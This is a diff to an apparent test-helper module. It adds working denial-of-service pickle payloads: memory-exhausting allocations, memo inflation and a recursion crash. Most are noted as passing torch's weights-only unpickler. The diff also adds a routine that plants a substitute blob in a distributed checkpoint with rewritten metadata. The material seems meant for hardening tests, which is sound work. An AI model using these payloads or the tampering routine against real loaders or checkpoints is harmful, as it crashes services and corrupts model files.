@@ -125,3 +125,78 @@ def flip_bytes(ckpt: Path, key: str, count: int = 64) -> Path:
 def copy_checkpoints(src: Path, dst: Path) -> Path:
     shutil.copytree(src, dst)
     return dst
+
+
+# --- hostile pickles: each allocates, burns CPU or crashes under plain pickle -------------
+#
+# Each builder takes N (the bytes to allocate, the memo index, the nesting depth) and
+# returns a protocol-2 pickle of a few dozen bytes (the nesting: N + a few).
+
+
+def _g(module: str, name: str) -> bytes:
+    return b"c" + f"{module}\n{name}\n".encode()
+
+
+def _int(n: int) -> bytes:
+    return b"J" + struct.pack("<i", n) if n < 2**31 else b"\x8a\x08" + n.to_bytes(8, "little", signed=True)
+
+
+def _call(fn: bytes, *args: bytes) -> bytes:
+    return fn + b"(" + b"".join(args) + b"tR"
+
+
+def _pickle(body: bytes) -> bytes:
+    return b"\x80\x02" + body + b"."
+
+
+def _bytes_of(n: int) -> bytes:
+    return _call(_g("builtins", "bytearray"), _int(n))
+
+
+HOSTILE_PICKLES = {
+    # torch's weights-only unpickler admits these globals: each allocates from its argument.
+    "bytearray(bytearray(N))": lambda n: _pickle(_call(_g("builtins", "bytearray"), _bytes_of(n))),
+    "set(bytearray(N))": lambda n: _pickle(_call(_g("builtins", "set"), _bytes_of(n))),
+    "Counter(bytearray(N))": lambda n: _pickle(_call(_g("collections", "Counter"), _bytes_of(n))),
+    "OrderedDict(bytearray(N))": lambda n: _pickle(_call(_g("collections", "OrderedDict"), _bytes_of(n))),
+    "torch.Size(bytearray(N))": lambda n: _pickle(_call(_g("torch", "Size"), _bytes_of(n))),
+    # the C unpickler grows its memo to twice the index a LONG_BINPUT names (8 bytes a slot)
+    "LONG_BINPUT index N": lambda n: _pickle(b"N" + b"r" + struct.pack("<I", min(n, 2**32 - 1))),
+    # a dict key nested N tuples deep: hashing it recurses in C until the stack overflows
+    "dict key N tuples deep": lambda n: _pickle(b"}" + b")" + b"\x85" * n + b"Ns"),
+}
+# N at which each does its damage cheaply: allocates N bytes or more (1 MB), or crashes.
+HOSTILE_SMALL_N = {name: 10**6 for name in HOSTILE_PICKLES} | {"LONG_BINPUT index N": 2**17}
+# ... and under torch's weights-only unpickler (torch.load(weights_only=True)), which moemesh used.
+TORCH_DAMAGED = (
+    "bytearray(bytearray(N))",
+    "set(bytearray(N))",
+    "Counter(bytearray(N))",
+    "OrderedDict(bytearray(N))",
+    "torch.Size(bytearray(N))",
+    "dict key N tuples deep",
+)
+
+
+def tensor_entry_zip(data_pkl: bytes, records: dict[str, bytes] | None = None) -> bytes:
+    """A torch.save zip around ``data_pkl`` (stored records, as torch writes them)."""
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
+        z.writestr("archive/data.pkl", data_pkl)
+        z.writestr("archive/byteorder", "little")
+        for name, raw in (records or {}).items():
+            z.writestr(f"archive/{name}", raw)
+        z.writestr("archive/version", "3\n")
+    return buf.getvalue()
+
+
+def plant_entry(ckpt: Path, key: str, blob: bytes) -> None:
+    """Store ``key`` as ``blob`` in a file of its own (evil.distcp), metadata and checksums
+    rewritten to match, as whoever can write the checkpoint's files can."""
+    from torch.distributed.checkpoint.filesystem import _StorageInfo
+
+    md = pickle.loads((ckpt / ".metadata").read_bytes())
+    (index,) = [i for i in md.storage_data if i.fqn == key]
+    (ckpt / "evil.distcp").write_bytes(blob)
+    md.storage_data[index] = _StorageInfo("evil.distcp", 0, len(blob))
+    plant_metadata(ckpt, pickle.dumps(md, protocol=2))
